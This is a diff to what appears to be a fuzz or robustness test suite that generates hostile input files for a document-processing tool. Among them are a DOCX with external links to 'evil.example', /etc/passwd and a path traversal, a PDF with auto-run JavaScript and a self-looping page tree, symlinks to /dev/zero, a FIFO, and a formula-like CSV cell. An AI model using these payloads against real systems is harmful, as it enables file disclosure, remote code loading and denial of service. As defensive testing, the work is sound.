@@ -281,6 +281,15 @@ def times_without_end(place: Place) -> None:
 
 
 @hostile
+def no_prose(place: Place) -> None:
+    kind = place.rng.choice(("abcdefgh", ".,;:!?-()", "0123456789", "😀🎉…"))
+    for name in ("a.txt", "b.txt"):
+        marks = " ".join(place.rng.choices(kind, k=place.many(250_000)))
+        told = [place.sentence() for _ in range(30)]
+        place.write(name, place.article([*told, marks, *told]))
+
+
+@hostile
 def many_small_articles(place: Place) -> None:
     for n in range(place.many(80)):
         place.write(
@@ -442,6 +451,47 @@ def deep_json(place: Place) -> None:
     place.pair(place.article())
 
 
+@hostile
+def links_outside(place: Place) -> None:
+    schemas = "http://schemas.openxmlformats.org"
+    kinds = f"{schemas}/officeDocument/2006/relationships"
+    held = io.BytesIO()
+    targets = {
+        "attachedTemplate": "http://evil.example/t.dotm",
+        "image": "file:///etc/passwd",
+        "footnotes": "../../../etc/passwd",
+    }
+    links = "".join(
+        f'<Relationship Id="r{n}" Type="{kinds}/{kind}" Target="{target}" '
+        'TargetMode="External"/>'
+        for n, (kind, target) in enumerate(targets.items())
+    )
+    body = "".join(
+        f"<w:p><w:r><w:t>{place.sentence()}</w:t></w:r></w:p>"
+        for _ in range(20)
+    )
+    parts = {
+        "word/_rels/document.xml.rels": f'<Relationships xmlns="{schemas}/package/2006/'
+        f'relationships">{links}</Relationships>',
+        "word/document.xml": f'<w:document xmlns:w="{schemas}/wordprocessingml/2006/main">'
+        f"<w:body>{body}</w:body></w:document>",
+    }
+    with zipfile.ZipFile(held, "w") as archive:
+        for name, content in parts.items():
+            archive.writestr(name, content)
+    place.write("a.docx", held.getvalue())
+    script = b"<</S/JavaScript/JS(app.alert(1))>>/AA<</O<</S/URI/URI(http://evil.example)>>>>"
+    place.write(
+        "b.pdf",
+        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction"
+        + script
+        + b">>endobj\n"
+        b"2 0 obj<</Type/Pages/Kids[3 0 R 2 0 R]/Count 999999999>>endobj\n"
+        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 1e30 1e30]>>endobj\ntrailer<</Root 1 0 R>>",
+    )
+    place.pair(place.article())
+
+
 # -- encodings and broken files -------------------------------------------------------------------
 @hostile
 def encodings(place: Place) -> None:
@@ -551,6 +601,8 @@ def bad_dates(place: Place) -> None:
         "2019-02-31",
         "0000-00-00",
         "99999-01-01",
+        "9999-12-31",
+        "0001-01-01",
         "-1",
         "31/02/2019",
         "٢٠١٩-٠٢-٠١",
@@ -684,6 +736,32 @@ def odd_side_files(place: Place) -> None:
             place.write(
                 name, place.rng.choice((*contents, place.rng.randbytes(300)))
             )
+
+
+@hostile
+def long_side_files(place: Place) -> None:
+    place.pair(place.article())
+    heads = {
+        "sources.csv": ("file,outlet", "{n}.txt,x"),
+        "places.csv": (
+            "name,aliases,latitude,longitude",
+            "Town{n},Alias{n}|of,1,2",
+        ),
+        "names.csv": ("name,is,not", "Name{n},Other{n},"),
+        "review.csv": ("key,verdict,note", "f{n},yes,=1"),
+    }
+    for name, (head, row) in heads.items():
+        rows = (row.format(n=n) for n in range(place.many(100_000)))
+        place.write(name, "\n".join((head, *rows)))
+
+
+@hostile
+def side_files_that_are_none(place: Place) -> None:
+    place.pair(place.article())
+    (place.corpus / "sources.csv").mkdir()
+    (place.corpus / "places.csv").symlink_to("places.csv")
+    (place.corpus / "names.csv").symlink_to("/dev/zero")
+    os.mkfifo(place.corpus / "review.csv")
 
 
 @hostile
